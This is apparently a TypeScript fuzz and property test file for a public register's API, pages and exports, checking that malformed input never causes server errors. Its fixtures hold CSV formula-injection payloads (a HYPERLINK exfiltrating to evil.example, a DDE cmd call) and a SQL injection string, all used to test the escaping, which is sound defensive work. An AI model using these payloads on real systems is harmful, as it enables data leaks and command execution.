// The register's JSON API and pages under random input (fast-check), its OpenAPI document, and its exports,
// on the demo data, on PGlite and on PostgreSQL.
import assert from "node:assert/strict";
import { test } from "node:test";
import { parse } from "csv-parse/sync";
import fc from "fast-check";
import type { LightMyRequestResponse } from "fastify";
import { buildRecord, operator } from "../../../test/factories.ts";
import { describeEachBackend } from "../../../test/helpers.ts";
import { loadDemo } from "../../demo/load.ts";
import de from "../../i18n/locales/de.json" with { type: "json" };
import en from "../../i18n/locales/en.json" with { type: "json" };
import fr from "../../i18n/locales/fr.json" with { type: "json" };
import nl from "../../i18n/locales/nl.json" with { type: "json" };
import { parseCsv } from "./exports/csv.ts";
import { SystemImport } from "./schema.ts";

const locales = { fr, nl, de, en } as const;
const langs = Object.keys(locales) as Array<keyof typeof locales>;
/** Stable error ids: every `errors.<id>` that has a title. */
const errorIds = new Set(Object.entries(en.errors).flatMap(([id, value]) => (typeof value === "object" ? [id] : [])));

/** Bounded runs: enough to find the odd input, quick enough for every push. */
const runs = { numRuns: 150 };

/** A system whose texts start like spreadsheet formulas, in ASCII and full-width forms. */
const FORMULA_ID = "lu-formula-names";
const formulaRecord = buildRecord({
  name: {
    fr: { text: '=HYPERLINK("https://evil.example/?leak="&A1, "Cliquez ici")' },
    nl: { text: "+SUM(1;2)" },
    de: { text: "-2+3" },
    en: { text: "@cmd|' /C calc'!A0" },
  },
  summary: { fr: { text: "＝HYPERLINK(1)" }, nl: { text: "＋1" }, de: { text: "－1" }, en: { text: "＠SUM(1)" } },
  classification: { theme: "taxation", region: "LU", tags: ["=1+1", "ok"] },
});

/** What every answer must be: never a server error; under /api a problem with a stable id. */
function assertApiAnswer(response: LightMyRequestResponse, what: string) {
  assert.ok(response.statusCode < 500, `${what} answered ${response.statusCode}: ${response.body.slice(0, 300)}`);
  if (response.statusCode >= 400) {
    assert.match(String(response.headers["content-type"]), /^application\/problem\+json/, what);
    const problem = response.json() as { id: string; status: number; title: string; type: string };
    assert.ok(errorIds.has(problem.id), `${what}: unknown error id ${problem.id}`);
    assert.equal(problem.status, response.statusCode, what);
    assert.ok(problem.type.endsWith(problem.id), what);
    assert.ok(problem.title && !problem.title.startsWith("errors."), `${what}: untranslated title`);
  }
}

const decode = (html: string) =>
  html.replaceAll("&quot;", '"').replaceAll("&#39;", "'").replaceAll("&lt;", "<").replaceAll("&gt;", ">").replaceAll("&amp;", "&");

/** An HTML error is a page in the language of its address, with the translated title of its stable id. */
function assertHtmlAnswer(response: LightMyRequestResponse, lang: keyof typeof locales, what: string) {
  assert.ok(response.statusCode < 500, `${what} answered ${response.statusCode}`);
  if (response.statusCode < 400) return;
  assert.match(String(response.headers["content-type"]), /^text\/html/, what);
  assert.match(response.body, new RegExp(`<html lang="${lang}"`), what);
  const [, id] = /<code>([a-z_]+)<\/code> \(\d{3}\)/.exec(response.body) ?? [];
  assert.ok(id && errorIds.has(id), `${what}: no stable error id on the page`);
  const title = (locales[lang].errors as Record<string, { title: string } | string>)[id]!;
  assert.ok(typeof title === "object" && decode(response.body).includes(title.title), `${what}: title of ${id} not in ${lang}`);
  assert.doesNotMatch(response.body, /at .*\.(ts|js):\d+/, `${what}: a stack trace`);
}

/** Text of every kind: any Unicode, control characters and NUL, or characters that mean something in URLs. */
const anyText = fc.oneof(
  fc.string({ unit: "grapheme", maxLength: 30 }),
  fc.string({ unit: "binary", maxLength: 30 }),
  fc.string({ unit: fc.constantFrom("%", "/", "?", "#", "&", "=", "+", ".", "..", "\0", "\n", " ", "a", "é", "💥", "[", "]"), maxLength: 12 }),
);
const anyNumber = fc.oneof(
  fc.bigInt({ min: -(10n ** 40n), max: 10n ** 40n }).map(String),
  fc.double().map(String),
  fc.constantFrom("0", "-1", "1e309", "NaN", "Infinity", "0x10", "1.5", " 2", "", "2147483648", "9007199254740993"),
);
/** A path segment: random text, encoded or not, a number, or one of the demo's ids. */
const segment = fc.oneof(
  anyText.map(encodeURIComponent),
  fc.webSegment(),
  anyNumber.map(encodeURIComponent),
  fc.constantFrom("lu-family-benefits-eligibility", "be-asylum-file-triage", "lu-school-dropout-early-warning", "x".repeat(65), "y".repeat(150), "%", "%zz", "%00", "%C0%AF"),
);
const queryKeys = ["q", "country", "organisation", "theme", "status", "risk", "page", "pageSize", "lang", "from", "to"];
const queryValue = fc.oneof(
  anyText,
  anyNumber,
  fc.constantFrom("LU", "BE", "taxation", "in_use", "high", "fr", "de", "lu-tax"),
  // What PostgreSQL or a URL decoder chokes on: NUL, broken escapes, search syntax.
  fc.constantFrom("\0", "a\0b", "%", "%zz", "%E0%A4%A", '"unclosed', "-", "!", "a | b", "a <-> b", "' or 1=1 --", "\\"),
);
/** A query string: known and random keys, arrays by repetition, values encoded or sent raw. */
const queryString = fc
  .array(
    fc.tuple(fc.oneof(fc.constantFrom(...queryKeys), anyText), queryValue, fc.boolean()),
    { maxLength: 6 },
  )
  .map((pairs) =>
    pairs.map(([key, value, raw]) => (raw ? `${key}=${value}` : `${encodeURIComponent(key)}=${encodeURIComponent(value)}`)).join("&"),
  );
/** A URL that light-my-request can send: raw characters outside ASCII are percent-encoded as a browser would. */
const sendable = (url: string) => url.replace(/[^\x21-\x7e]/gu, (c) => encodeURIComponent(c).replace(/%25/g, "%"));

describeEachBackend(
  "register API under any input",
  (get) => {
    test("any query string on /api/v1/systems: a result or a problem, never a server error", async () => {
      await fc.assert(
        fc.asyncProperty(queryString, async (qs) => {
          const url = sendable(`/api/v1/systems?${qs}`);
          const response = await get().app.inject({ url });
          assertApiAnswer(response, url);
          if (response.statusCode === 200) {
            const body = response.json() as { total: number; items: unknown[]; page: number; pageCount: number };
            assert.ok(body.items.length <= body.total && body.page >= 1 && body.pageCount >= 1, url);
          }
        }),
        runs,
      );
    });

    test("any path segment on the system, version, diff, export and organisation routes", async () => {
      const routes = [
        (s: string[]) => `/api/v1/systems/${s[0]}`,
        (s: string[]) => `/api/v1/systems/${s[0]}/versions`,
        (s: string[]) => `/api/v1/systems/${s[0]}/versions/${s[1]}`,
        (s: string[]) => `/api/v1/systems/${s[0]}/diff?from=${s[1]}&to=${s[2]}`,
        (s: string[]) => `/api/v1/systems/${s[0]}/export/${s[1]}`,
        (s: string[]) => `/api/v1/organisations/${s[0]}`,
      ];
      await fc.assert(
        fc.asyncProperty(
          fc.constantFrom(...routes),
          fc.array(fc.oneof(segment, fc.constantFrom("1", "2", "3", "2147483648", "1e400", "atrs", "nl", "aia-annex-viii-c")), { minLength: 3, maxLength: 3 }),
          fc.option(fc.oneof(fc.constantFrom(...langs), anyText), { nil: undefined }),
          fc.oneof(
            { weight: 4, arbitrary: fc.constant<"GET" | "POST" | "PUT" | "PATCH" | "DELETE" | "OPTIONS">("GET") },
            fc.constantFrom("POST", "PUT", "PATCH", "DELETE", "OPTIONS"),
          ),
          async (route, segments, lang, method) => {
            const path = route(segments);
            const url = sendable(lang === undefined ? path : `${path}${path.includes("?") ? "&" : "?"}lang=${encodeURIComponent(lang)}`);
            assertApiAnswer(await get().app.inject({ method, url }), `${method} ${url}`);
          },
        ),
        { numRuns: 200 },
      );
    });

    test("version numbers past the database's integer range are a client error, on the API and on the pages", async () => {
      for (const url of [
        "/api/v1/systems/lu-family-benefits-eligibility/versions/2147483648",
        "/api/v1/systems/lu-family-benefits-eligibility/diff?from=1&to=2147483648",
        "/en/systems/lu-family-benefits-eligibility/versions/2147483648",
        "/en/systems/lu-family-benefits-eligibility/diff?from=2147483648&to=1",
      ]) {
        const response = await get().app.inject({ method: "GET", url });
        assert.ok([400, 404].includes(response.statusCode), `${url} answered ${response.statusCode}`);
      }
    });

    test("any body with any content type on /api/v1/systems/validate", async () => {
      const contentType = fc.oneof(
        fc.constantFrom(
          "application/json",
          "application/json; charset=utf-8",
          "application/json; charset=latin1",
          "text/plain",
          "text/csv",
          "application/x-www-form-urlencoded",
          "multipart/form-data",
          "application/xml",
          "application/octet-stream",
          "application/problem+json",
          "",
        ),
        fc.string({ unit: "grapheme-ascii", maxLength: 20 }),
      );
      const body = fc.oneof(
        fc.jsonValue().map((value) => JSON.stringify(value)),
        fc.constantFrom("[]", "{}", '{"systems":[]}', '{"systems":[{}]}', '{"organisations":[{}],"systems":[null]}', "{not json", "", "null", '"x"', "[1,2,3]"),
        fc.jsonValue().map((value) => JSON.stringify({ systems: [value], organisations: [value] })),
        anyText,
        fc.uint8Array({ maxLength: 64 }).map((bytes) => Buffer.from(bytes)),
      );
      await fc.assert(
        fc.asyncProperty(contentType, body, async (type, payload) => {
          const response = await get().app.inject({
            method: "POST",
            url: "/api/v1/systems/validate",
            headers: type ? { "content-type": type } : {},
            payload,
          });
          assertApiAnswer(response, `POST validate as ${JSON.stringify(type)}: ${String(payload).slice(0, 80)}`);
          assert.ok([200, 400, 413, 415, 422].includes(response.statusCode), `validate answered ${response.statusCode}`);
        }),
        runs,
      );
    });

    test("any path under /{lang}/: a page, a redirect or a translated error page", async () => {
      const tail = fc.oneof(
        fc.array(segment, { maxLength: 4 }).map((s) => s.join("/")),
        fc.tuple(fc.constantFrom("systems", "organisations", "systems/lu-family-benefits-eligibility"), fc.array(segment, { maxLength: 3 }))
          .map(([head, rest]) => [head, ...rest].join("/")),
      );
      await fc.assert(
        fc.asyncProperty(fc.constantFrom(...langs), tail, fc.option(queryString, { nil: undefined }), async (lang, path, qs) => {
          const url = sendable(`/${lang}/${path}${qs === undefined ? "" : `?${qs}`}`);
          // Dot segments are resolved before routing, as a browser does ("/en/../a" is "/a", negotiated: French).
          const first = new URL(url, "http://localhost").pathname.split("/")[1];
          assertHtmlAnswer(await get().app.inject({ url }), langs.find((l) => l === first) ?? "fr", url);
        }),
        runs,
      );
    });

    test("the OpenAPI document is 3.1.0 and lists every /api/v1 route the app registers", async () => {
      const response = await get().app.inject({ url: "/api/openapi.json" });
      assert.equal(response.statusCode, 200);
      const doc = response.json() as { openapi: string; paths: Record<string, Record<string, unknown>> };
      assert.equal(doc.openapi, "3.1.0");
      const documented = Object.entries(doc.paths)
        .flatMap(([path, operations]) => Object.keys(operations).map((method) => `${method.toUpperCase()} ${path}`))
        .sort();
      const registered = registeredRoutes(get().app.printRoutes({ commonPrefix: false }))
        .filter((r) => r.path.startsWith("/api/v1/"))
        .flatMap((r) => r.methods.filter((m) => m !== "HEAD").map((m) => `${m} ${r.path.replace(/:(\w+)/g, "{$1}")}`))
        .sort();
      assert.ok(registered.length >= 13, `routes read from printRoutes: ${registered.join(", ")}`);
      for (const route of registered) {
        const [method, url] = route.split(" ") as [string, string];
        assert.ok(get().app.hasRoute({ method: method as "GET", url: url.replace(/\{(\w+)\}/g, ":$1") }), route);
      }
      assert.deepEqual(documented, registered);
    });

    test("/api/docs answers an HTML page", async () => {
      let response = await get().app.inject({ url: "/api/docs" });
      for (let hops = 0; response.statusCode >= 300 && response.statusCode < 400 && hops < 3; hops++) {
        response = await get().app.inject({ url: String(response.headers.location) });
      }
      assert.equal(response.statusCode, 200);
      assert.match(String(response.headers["content-type"]), /^text\/html/);
      assert.match(response.body, /<html/i);
    });

    test("CSV exports neutralise every cell that a spreadsheet would run as a formula", async () => {
      const dangerous = /^[=+\-@\t\r\n\uFF1D\uFF0B\uFF0D\uFF20]/;
      for (const url of ["/api/v1/systems.csv", "/api/v1/systems/history.csv"]) {
        const response = await get().app.inject({ url });
        assert.equal(response.statusCode, 200);
        assert.match(String(response.headers["content-type"]), /^text\/csv/);
        const cells = (parse(response.body, { bom: true }) as string[][]).flat();
        assert.deepEqual(cells.filter((cell) => dangerous.test(cell)), [], url);
        for (const start of ["'=HYPERLINK(", "'+SUM", "'-2+3", "'@cmd", "'＝HYPERLINK", "'＋1", "'－1", "'＠SUM"]) {
          assert.ok(cells.some((cell) => cell.startsWith(start)), `${url}: a cell starting with ${start}`);
        }
      }
      // The import undoes the escaping: the record read back from the export is the one saved.
      const row = parseCsv((await get().app.inject({ url: "/api/v1/systems.csv" })).body).rows.find((r) => r.cells.id === FORMULA_ID);
      assert.equal(row?.cells.name_fr, formulaRecord.name.fr!.text);
      assert.equal(row?.cells.classification_tags, JSON.stringify(["=1+1", "ok"]));
      // JSON needs no escaping: the text is as written.
      const json = (await get().app.inject({ url: `/api/v1/systems/${FORMULA_ID}` })).json();
      assert.equal(json.record.name.fr.text, formulaRecord.name.fr!.text);
    });

    test("the JSON export has one object per public system, with stable ids", async () => {
      const first = await get().app.inject({ url: "/api/v1/systems.json" });
      assert.equal(first.statusCode, 200);
      assert.match(String(first.headers["content-disposition"]), /attachment/);
      const systems = first.json() as Array<{ id: string; version: number; organisation: { id: string } }>;
      const ids = systems.map((s) => s.id);
      assert.equal(new Set(ids).size, ids.length, "one object per system");
      const list = (await get().app.inject({ url: "/api/v1/systems?pageSize=100" })).json() as { total: number; items: Array<{ id: string; version: number }> };
      assert.equal(systems.length, list.total);
      assert.deepEqual([...ids].sort(), list.items.map((i) => i.id).sort());
      assert.deepEqual(systems.map((s) => s.version), ids.map((id) => list.items.find((i) => i.id === id)!.version));
      assert.deepEqual(ids, [...ids].sort(), "in a stable order");
      assert.ok(ids.every((id) => /^[a-z0-9][a-z0-9-]{2,63}$/.test(id)));
      const again = (await get().app.inject({ url: "/api/v1/systems.json" })).json() as Array<{ id: string }>;
      assert.deepEqual(again.map((s) => s.id), ids);
      const history = (await get().app.inject({ url: "/api/v1/systems/history.json" })).json() as Array<{ id: string; version: number }>;
      assert.deepEqual([...new Set(history.map((s) => s.id))], ids);
    });

    test("pagination: pages of five cover every system once, with the same total", async () => {
      const page = async (n: number) =>
        (await get().app.inject({ url: `/api/v1/systems?pageSize=5&page=${n}` })).json() as {
          total: number;
          page: number;
          pageSize: number;
          pageCount: number;
          items: Array<{ id: string }>;
        };
      const one = await page(1);
      assert.equal(one.pageSize, 5);
      assert.equal(one.pageCount, Math.ceil(one.total / 5));
      assert.ok(one.pageCount >= 3);
      const two = await page(2);
      assert.equal(two.total, one.total);
      assert.equal(two.page, 2);
      assert.equal(two.items.length, 5);
      assert.deepEqual(two.items.filter((i) => one.items.some((o) => o.id === i.id)), []);
      const all = [one, two];
      for (let n = 3; n <= one.pageCount; n++) all.push(await page(n));
      const ids = all.flatMap((p) => p.items.map((i) => i.id));
      assert.equal(ids.length, one.total);
      assert.equal(new Set(ids).size, one.total);
      const beyond = await page(one.pageCount + 1);
      assert.deepEqual(beyond.items, []);
      assert.equal(beyond.total, one.total);
    });

    test("facet filters combine, and each facet counts the other filters", async () => {
      type List = { total: number; items: Array<{ id: string; organisation: { country: string }; theme: string; riskClass: string; status: string }>; facets: Record<string, Array<{ value: string; count: number }>> };
      const list = async (qs: string) => (await get().app.inject({ url: `/api/v1/systems?pageSize=100&${qs}` })).json() as List;
      const all = await list("");
      const lu = await list("country=LU");
      const high = await list("risk=high");
      const both = await list("country=LU&risk=high");
      assert.ok(both.total > 0 && both.total < lu.total && both.total < high.total);
      assert.ok(both.items.every((i) => i.organisation.country === "LU" && i.riskClass === "high"));
      assert.deepEqual(
        both.items.map((i) => i.id).sort(),
        lu.items.filter((i) => i.riskClass === "high").map((i) => i.id).sort(),
      );
      // Facets: the count of a value is what choosing it would give.
      assert.equal(lu.facets.risk!.find((f) => f.value === "high")?.count, both.total);
      assert.equal(high.facets.country!.find((f) => f.value === "LU")?.count, both.total);
      assert.equal(both.facets.country!.reduce((n, f) => n + f.count, 0), high.total);
      assert.equal(all.facets.country!.reduce((n, f) => n + f.count, 0), all.total);
      const three = await list("country=LU&risk=high&status=in_use");
      assert.ok(three.items.every((i) => i.organisation.country === "LU" && i.riskClass === "high" && i.status === "in_use"));
      assert.equal(both.facets.status!.find((f) => f.value === "in_use")?.count ?? 0, three.total);
      const none = await list("country=BE&organisation=lu-tax");
      assert.equal(none.total, 0);
    });
  },
  async ({ services }) => {
    await loadDemo(services, operator);
    await services.systems.importSystems(operator, [
      { line: 1, item: SystemImport.parse({ id: FORMULA_ID, organisation: "lu-tax", record: formulaRecord }) },
    ]);
  },
);

/** The routes of `printRoutes({ commonPrefix: false })`, whose lines nest path segments four columns a level. */
function registeredRoutes(tree: string): Array<{ path: string; methods: string[] }> {
  const paths: string[] = [];
  const routes: Array<{ path: string; methods: string[] }> = [];
  for (const line of tree.split("\n")) {
    const match = /^([│├└─\s]*)(\S.*?)(?: \(([A-Z, ]+)\))?$/.exec(line);
    if (!match) continue;
    const depth = match[1]!.length / 4;
    const path = `${paths[depth - 1] ?? ""}${match[2]}`;
    paths[depth] = path;
    if (match[3]) routes.push({ path, methods: match[3].split(", ") });
  }
  return routes;
}
